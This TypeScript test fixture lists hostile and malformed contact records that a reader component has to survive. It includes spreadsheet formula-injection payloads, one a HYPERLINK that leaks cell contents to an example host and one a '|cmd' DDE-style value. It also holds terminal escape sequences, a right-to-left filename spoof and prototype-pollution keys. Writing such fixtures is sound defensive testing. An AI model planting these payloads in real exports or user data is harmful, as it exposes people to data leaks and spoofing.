export type Part = 'name' | 'email' | 'phone' | 'tags' | 'lastMessage';

// biome-ignore lint/suspicious/noExplicitAny: these records break the types on purpose
type AnyRecord = any;

export interface HostileRecord {
  /** A name typed by someone who means no good, or at least no name. */
  readonly name?: string;
  /** What the record does not hold, so that no filter finds it by that. */
  readonly lacks?: readonly Part[];
  readonly corrupt?: (record: AnyRecord) => void;
}

const details: readonly Part[] = ['name', 'email', 'phone', 'tags'];
const attributes = [
  { key: '__proto__', value: 'polluted' },
  { key: 'constructor', value: { nested: ['=1+1', null] } },
  { key: '', value: 'no key' },
  null,
];

/** What strangers, imports and old versions leave behind: a reader has to survive each. */
export const hostileRecords: readonly HostileRecord[] = [
  { name: '\u001b[31mRed Alert\u001b[0m' },
  { lacks: ['email'], corrupt: ({ profile }) => delete profile.userDetails.contact?.email },
  { name: '=HYPERLINK("https://example.com/?leak="&A1,"Open me")' },
  { lacks: details, corrupt: ({ profile }) => delete profile.userDetails },
  { name: '\u202Egnp.eciovni' },
  {
    lacks: ['email', 'phone'],
    corrupt({ profile }) {
      profile.userDetails.contact = null;
      delete profile.userDetails.whatsAppNumber;
    },
  },
  { name: '\nLeading newline' },
  { lacks: ['lastMessage'], corrupt: (raw) => delete raw.lastMessage },
  { name: '\u001b]0;owned\u0007 👩‍👩‍👧‍👦 Familie' },
  { lacks: ['tags'], corrupt: ({ profile }) => delete profile.userDetails.tags },
  { name: `Long ${'Longer '.repeat(40)}Longest` },
  { lacks: details, corrupt: (raw) => Object.assign(raw, { profile: null }) },
  { name: 'Half an emoji \ud83d', lacks: ['email'] },
  { corrupt: ({ profile }) => Object.assign(profile.userDetails, { attributes }) },
  { name: '+SUM(1;1)|cmd\t"quoted", and more' },
  { corrupt: (raw) => Object.assign(raw, { platform: raw.platform[0], unreadMessages: '3' }) },
];
